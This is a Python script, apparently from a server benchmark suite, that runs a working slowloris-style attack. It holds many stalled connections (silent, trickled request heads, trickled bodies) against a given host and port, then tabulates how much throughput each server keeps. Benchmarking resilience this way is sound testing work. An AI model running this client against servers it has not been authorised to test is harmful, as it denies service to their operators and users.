#!/usr/bin/env python3
"""Stalled connections for bench/stalled.sh: what a slowloris-style client does to a server.

  attack HOST PORT N SECONDS   holds N connections for SECONDS: a third send nothing at all,
                               a third send a request head a byte a second and never end it, a
                               third send a whole head announcing a 1 MB body and then a byte a
                               second. A connection the server closes is opened again at once, so
                               N stay stalled the whole time. Prints one JSON line at the end:
                               connections opened, closed by the server, bytes trickled.
  ratios RESULTS.jsonl         the throughput kept under attack, per server, as a markdown table.

Standard library only; asyncio keeps the client's own CPU use near zero (a few hundred sleeps a
second), so on a 2-core machine the attack costs the server almost no CPU of its own.
"""

from __future__ import annotations

import asyncio
import json
import statistics
import sys


HEAD = b"GET /bench HTTP/1.1\r\nHost: bench\r\n"
BODY_HEAD = b"POST /bench HTTP/1.1\r\nHost: bench\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n"


async def stall(host: str, port: int, kind: str, until: float, stats: dict) -> None:
    loop = asyncio.get_running_loop()
    while loop.time() < until:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            await asyncio.sleep(0.1)
            continue
        stats["opened"] += 1
        try:
            if kind == "body":
                writer.write(BODY_HEAD)
            elif kind == "head":
                writer.write(HEAD)
            await writer.drain()
            while loop.time() < until:
                # A byte a second (or nothing), and notice at once when the server hangs up.
                try:
                    data = await asyncio.wait_for(reader.read(4096), timeout=1.0)
                    if not data:
                        stats["closed_by_server"] += 1
                        break
                    continue
                except asyncio.TimeoutError:
                    pass
                if kind == "head":
                    writer.write(b"X")
                elif kind == "body":
                    writer.write(b" ")
                if kind != "silent":
                    await writer.drain()
                    stats["bytes"] += 1
        except (ConnectionError, OSError):
            stats["closed_by_server"] += 1
        finally:
            writer.close()


async def attack(host: str, port: int, n: int, seconds: float) -> dict:
    stats = {"opened": 0, "closed_by_server": 0, "bytes": 0}
    until = asyncio.get_running_loop().time() + seconds
    kinds = ["silent", "head", "body"]
    await asyncio.gather(*(stall(host, port, kinds[i % 3], until, stats) for i in range(n)))
    return stats


def ratios(path: str) -> str:
    runs = [json.loads(line) for line in open(path) if line.strip()]
    out = ["| server | req/s, clean | req/s, with stalled connections | kept |", "|---|---:|---:|---:|"]
    for server in dict.fromkeys(r["server"].split(" + ")[0] for r in runs):
        clean = statistics.median(r["rps"] for r in runs if r["server"] == server)
        attacked = statistics.median(r["rps"] for r in runs if r["server"] != server and r["server"].startswith(server))
        out.append(f"| {server} | {clean:,.0f} | {attacked:,.0f} | **{attacked / clean:.2f}** |")
    return "\n".join(out) + "\n"


if __name__ == "__main__":
    if sys.argv[1] == "attack":
        host, port, n, seconds = sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
        print(json.dumps(asyncio.run(attack(host, port, n, seconds))))
    elif sys.argv[1] == "ratios":
        sys.stdout.write(ratios(sys.argv[2]))
    else:
        sys.exit(f"unknown command {sys.argv[1]}")
